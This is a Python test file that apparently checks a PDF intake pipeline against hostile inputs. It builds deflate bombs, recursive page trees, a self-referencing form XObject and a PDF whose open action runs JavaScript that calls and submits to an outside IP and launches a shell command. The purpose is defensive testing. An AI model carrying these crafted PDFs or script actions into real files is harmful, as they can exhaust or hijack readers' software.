"""PDFs that are out to break a parser: bombs, loops of pages and pictures, scripts. Each is refused or gives its page's words."""

import io
import zlib

import pypdf
import pytest

from latamgpt.params import Params
from latamgpt.store import Workspace
from tests.intake.deliveries import deliver, documents, reasons, register, take_in

WORDS = "Un relato del puerto y de su gente."
TEXT = f"BT /F1 12 Tf 70 760 Td ({WORDS}) Tj ET".encode()
CONTENTS, EXTRA = 4, 6  # numbers of objects
BOMB_MEBIBYTES = 512


def stream(content: bytes, entries: str = "") -> bytes:
    """A stream of PDF with these bytes, as they are."""
    return f"<< /Length {len(content)} {entries}>>\nstream\n".encode() + content + b"\nendstream"


def book(contents: bytes, *extra: bytes, kids: str = "3 0 R", count: int = 1, page: str = "", catalog: str = "") -> bytes:
    """A PDF of one page, written object by object; `extra` are the objects from number 6 on."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog}>>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {CONTENTS} 0 R "
        f"/Resources << /Font << /F1 5 0 R >> /XObject << /X {EXTRA} 0 R >> >> {page}>>".encode(),
        contents,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]
    raw, offsets = b"%PDF-1.7\n", list[int]()
    for number, one in enumerate(objects, start=1):
        offsets.append(len(raw))
        raw += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n"
    return raw + f"{end}startxref\n{len(raw)}\n%%EOF\n".encode()


@pytest.fixture(scope="module")
def deflated() -> bytes:
    """Half a gigabyte of blanks as half a megabyte: one deflated piece over and over, with the checksum of them all."""
    packer = zlib.compressobj(9)
    piece, checksum = b" " * (1 << 20), 1
    first, again = (packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(BOMB_MEBIBYTES):
        checksum = zlib.adler32(piece, checksum)
    return first + again * (BOMB_MEBIBYTES - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


@pytest.fixture
def archive(workspace: Workspace) -> Workspace:
    register(workspace)
    return workspace


def intake(archive: Workspace, params: Params, files: dict[str, bytes | str]) -> dict[str, str]:
    deliver(archive, {**files, "z.txt": "Otro relato."}, format="files")
    take_in(archive, params)
    found = {str(row["path"]): str(row["text"]) for row in documents(archive)}
    assert found.pop("z.txt") == "Otro relato."
    return found


def test_the_plain_page_that_the_hostile_ones_are_made_from_is_read(archive: Workspace, params: Params) -> None:
    assert intake(archive, params, {"a.pdf": book(stream(TEXT))}) == {"a.pdf": WORDS}


def test_bombs_in_a_page_or_in_the_metadata_are_refused(archive: Workspace, params: Params, deflated: bytes) -> None:
    twice = zlib.compress(deflated, 9)
    metadata = stream(deflated, "/Type /Metadata /Subtype /XML /Filter /FlateDecode ")
    files: dict[str, bytes | str] = {
        "once.pdf": book(stream(deflated, "/Filter /FlateDecode ")),
        "twice.pdf": book(stream(twice, "/Filter [/FlateDecode /FlateDecode] ")),
        "xmp.pdf": book(stream(TEXT), metadata, catalog=f"/Metadata {EXTRA} 0 R "),
    }
    assert len(files["twice.pdf"]) < 2_000
    assert intake(archive, params, files) == {}
    assert reasons(archive) == dict.fromkeys(files, "pdf_unreadable")


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (book(stream(TEXT), kids="2 0 R"), "pdf_unreadable"),
        (book(stream(TEXT), kids="3 0 R 2 0 R", count=10**9), "pdf_unreadable"),
        (book(stream(TEXT), kids="3 0 R " * 6000, count=6000), "too_large"),
        (book(f"<< /Length {CONTENTS} 0 R >>\nstream\n".encode() + TEXT + b"\nendstream"), "pdf_unreadable"),
    ],
    ids=["pages of themselves", "pages among their pages", "one page 6000 times", "a length that is its own stream"],
)
def test_a_loop_of_objects_is_refused(archive: Workspace, params: Params, raw: bytes, reason: str) -> None:
    assert intake(archive, params, {"a.pdf": raw}) == {}
    assert reasons(archive) == {"a.pdf": reason}


def test_a_picture_that_draws_itself_ends(archive: Workspace, params: Params) -> None:
    form = stream(b"/X Do", f"/Type /XObject /Subtype /Form /Resources << /XObject << /X {EXTRA} 0 R >> >> ")
    assert intake(archive, params, {"a.pdf": book(stream(b"/X Do " + TEXT), form)}) == {"a.pdf": WORDS}


def test_scripts_attachments_and_commands_are_neither_run_nor_read(archive: Workspace, params: Params) -> None:
    ran = archive.root / "ran"
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/'\\); this.submitForm\\('http://198.51.100.7/'\\);) >>"
    attached = b"<< /Type /Filespec /F (otro.txt) /EF << /F 8 0 R >> >>"
    launch = f"<< /S /Launch /F (/usr/bin/touch) /Win << /F (/usr/bin/touch) /P ({ran}) >> >>".encode()
    names = "/JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(otro.txt) 7 0 R] >>"
    raw = book(
        stream(TEXT),
        script,
        attached,
        stream(b"Un texto adjunto.", "/Type /EmbeddedFile "),
        launch,
        page="/AA << /O 9 0 R >> ",
        catalog=f"/OpenAction 6 0 R /Names << {names} >> ",
    )
    assert set(pypdf.PdfReader(io.BytesIO(raw)).attachments) == {"otro.txt"}
    assert intake(archive, params, {"a.pdf": raw}) == {"a.pdf": WORDS}
    assert reasons(archive) == {}
    assert not ran.exists()
